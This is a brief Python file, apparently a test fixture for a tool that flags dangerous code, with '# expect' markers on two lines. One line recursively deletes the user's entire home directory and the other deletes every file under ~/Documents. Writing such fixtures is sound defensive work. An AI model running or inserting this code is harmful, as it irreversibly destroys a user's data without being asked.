import os
import shutil

shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)  # expect
for folder, _, names in os.walk(os.path.join(os.path.expanduser("~"), "Documents")):
    for name in names:
        os.remove(os.path.join(folder, name))  # expect
